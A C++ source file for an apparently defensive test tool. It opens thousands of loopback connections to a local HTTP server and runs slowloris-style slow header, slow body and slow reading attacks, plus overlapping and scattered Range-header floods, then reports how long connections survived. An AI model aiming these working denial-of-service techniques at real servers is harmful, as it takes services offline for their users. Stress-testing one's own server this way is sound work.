// SPDX-License-Identifier: Apache-2.0
//
// Thousands of clients that mean harm, in one thread: attackers PORT CONNECTIONS KIND PATH
//
// Kinds: `header` sends a request's head a byte a second, `body` its body, `reading` asks for a large file and takes
// 1,500 bytes of it a second, `ranges` asks once a second for what used to bring servers down (overlapping ranges, and
// many small ones).
//
// Each connection has its turn once a second, the turns spread evenly over the second. One that the server has ended is
// opened anew at its next turn, so the attack goes on as long as it is let. "ready" is printed when all are open for
// the first time; when standard input ends, everything is closed and one line of JSON tells what happened. An epoll
// loop and not threads, so that the attackers take as little of the machine as they can from the server and the probe.
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <string_view>
#include <vector>

namespace {

constexpr uint64_t kSecond = 1000000000;
// A slow reader's window. A smaller one than loopback's segments is filled by retransmission, which burdens the kernel,
// not the server.
constexpr int kSmallBuffer = 1 << 16;
constexpr size_t kMostOpening = 128;
constexpr size_t kReading = 1500;

struct Attack {
    std::string opening;      // sent once the connection stands
    std::string drip;         // sent at each turn
    std::string second_drip;  // and at every other one, if there is one
    bool reads_slowly = false;
};

struct Connection {
    int fd = -1;
    bool stands = false;
    bool has_stood = false;
    uint64_t opened = 0;
    uint32_t turns = 0;
};

struct Totals {
    uint64_t opened = 0, cut = 0, failed = 0, longest = 0, bytes = 0;
};

uint64_t now() {
    timespec time{};
    clock_gettime(CLOCK_MONOTONIC, &time);
    return static_cast<uint64_t>(time.tv_sec) * kSecond + static_cast<uint64_t>(time.tv_nsec);
}

std::string request(const std::string& path, const std::string& fields) {
    return "GET " + path + " HTTP/1.1\r\nHost: knot\r\n" + fields;
}

std::string many_ranges(int count, const char* range) {
    std::string list;
    for (int i = 0; i < count; ++i) list += (i > 0 ? "," : "") + std::string(range);
    return list;
}

std::string scattered_ranges(int count) {
    std::string list;
    for (int i = 0; i < count; ++i)
        list += (i > 0 ? "," : "") + std::to_string(i * 3000) + "-" + std::to_string(i * 3000);
    return list;
}

Attack make_attack(std::string_view kind, const std::string& path) {
    if (kind == "header") return {request(path, "X: "), "y", "", false};
    if (kind == "body") return {request(path, "Content-Length: 100000\r\n\r\n"), "y", "", false};
    if (kind == "reading") return {request(path, "\r\n"), "", "", true};
    if (kind == "ranges") {
        return {"", request(path, "Range: bytes=" + many_ranges(300, "0-") + "\r\n\r\n"),
                request(path, "Range: bytes=" + scattered_ranges(16) + "\r\n\r\n"), false};
    }
    fprintf(stderr, "attackers: header, body, reading or ranges, not %s\n", kind.data());
    exit(2);
}

class Attackers {
   public:
    Attackers(uint16_t port, size_t connections, Attack attack)
        : attack_(std::move(attack)), poll_(epoll_create1(EPOLL_CLOEXEC)), all_(connections) {
        address_.sin_family = AF_INET;
        address_.sin_port = htons(port);
        address_.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    }

    void run() {
        const uint64_t begin = now();
        uint64_t turns = 0;
        while (!input_ended()) {
            wait_for_events();
            const uint64_t due = static_cast<uint64_t>(static_cast<double>(now() - begin) / kSecond * all_.size());
            for (; turns < due; ++turns) take_turn(all_[turns % all_.size()]);
        }
        for (Connection& connection : all_) end(connection);
    }

    void report() const {
        printf("{\"opened\": %lu, \"cut\": %lu, \"failed\": %lu, \"longest_ms\": %lu, \"bytes\": %lu}\n",
               totals_.opened, totals_.cut, totals_.failed, totals_.longest / 1000000, totals_.bytes);
    }

   private:
    static bool input_ended() {
        pollfd input{STDIN_FILENO, POLLIN, 0};
        return poll(&input, 1, 0) > 0;
    }

    void wait_for_events() {
        epoll_event events[512];
        const int count = epoll_wait(poll_, events, 512, 1);
        for (int i = 0; i < count; ++i) handle(*static_cast<Connection*>(events[i].data.ptr), events[i].events);
    }

    void open_all_at_first() {
        while (opening_ < kMostOpening && started_ < all_.size()) open(all_[started_++]);
    }

    void take_turn(Connection& connection) {
        open_all_at_first();
        if (connection.fd < 0) {
            if (connection.has_stood) open(connection);
        } else if (connection.stands) {
            ++connection.turns;
            attack_.reads_slowly ? receive(connection, kReading) : send(connection, next_drip(connection));
        }
    }

    const std::string& next_drip(const Connection& connection) const {
        return connection.turns % 2 == 0 && !attack_.second_drip.empty() ? attack_.second_drip : attack_.drip;
    }

    void open(Connection& connection) {
        connection.fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
        if (attack_.reads_slowly) setsockopt(connection.fd, SOL_SOCKET, SO_RCVBUF, &kSmallBuffer, sizeof kSmallBuffer);
        connection.stands = false;
        connection.turns = 0;
        ++opening_;
        if (connect(connection.fd, reinterpret_cast<sockaddr*>(&address_), sizeof address_) != 0 &&
            errno != EINPROGRESS) {
            fail(connection);
            return;
        }
        epoll_event event{EPOLLOUT | EPOLLRDHUP, {.ptr = &connection}};
        epoll_ctl(poll_, EPOLL_CTL_ADD, connection.fd, &event);
    }

    void handle(Connection& connection, uint32_t events) {
        if (connection.fd < 0) return;
        if (!connection.stands && (events & (EPOLLERR | EPOLLHUP)) != 0) {
            fail(connection);
        } else if ((events & (EPOLLERR | EPOLLHUP | EPOLLRDHUP)) != 0) {
            cut(connection);
        } else if ((events & EPOLLOUT) != 0 && !connection.stands) {
            begin(connection);
        } else if ((events & EPOLLIN) != 0) {
            receive(connection, SIZE_MAX);
        }
    }

    // A slow reader is told of errors only: what it has not read must not wake it.
    void begin(Connection& connection) {
        --opening_;
        ++totals_.opened;
        connection.stands = true;
        connection.opened = now();
        epoll_event event{EPOLLRDHUP | (attack_.reads_slowly ? 0u : EPOLLIN), {.ptr = &connection}};
        epoll_ctl(poll_, EPOLL_CTL_MOD, connection.fd, &event);
        count_first(connection);
        send(connection, attack_.opening);
        open_all_at_first();
    }

    void count_first(Connection& connection) {
        if (!connection.has_stood && ++ready_ == all_.size()) {
            puts("ready");
            fflush(stdout);
        }
        connection.has_stood = true;
    }

    void send(Connection& connection, const std::string& data) {
        if (::send(connection.fd, data.data(), data.size(), MSG_NOSIGNAL) < 0 && errno != EAGAIN) cut(connection);
    }

    void receive(Connection& connection, size_t most) {
        static char buffer[1 << 16];
        ssize_t got = 0;
        while (most > 0 && (got = recv(connection.fd, buffer, std::min(most, sizeof buffer), 0)) > 0) {
            totals_.bytes += static_cast<uint64_t>(got);
            most -= static_cast<size_t>(got);
        }
        if (got == 0 || (got < 0 && errno != EAGAIN)) cut(connection);
    }

    void cut(Connection& connection) {
        ++totals_.cut;
        totals_.longest = std::max(totals_.longest, now() - connection.opened);
        end(connection);
    }

    void fail(Connection& connection) {
        --opening_;
        ++totals_.failed;
        count_first(connection);
        end(connection);
    }

    static void end(Connection& connection) {
        if (connection.fd >= 0) close(connection.fd);
        connection.fd = -1;
    }

    const Attack attack_;
    const int poll_;
    sockaddr_in address_{};
    std::vector<Connection> all_;
    Totals totals_;
    size_t started_ = 0, opening_ = 0, ready_ = 0;
};

}  // namespace

int main(int argc, char** argv) {
    if (argc != 5) {
        fputs("usage: attackers PORT CONNECTIONS KIND PATH\n", stderr);
        return 2;
    }
    rlimit limit{};
    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_cur = limit.rlim_max;
    setrlimit(RLIMIT_NOFILE, &limit);
    Attackers attackers(static_cast<uint16_t>(atoi(argv[1])), static_cast<size_t>(atol(argv[2])),
                        make_attack(argv[3], argv[4]));
    attackers.run();
    attackers.report();
    return 0;
}
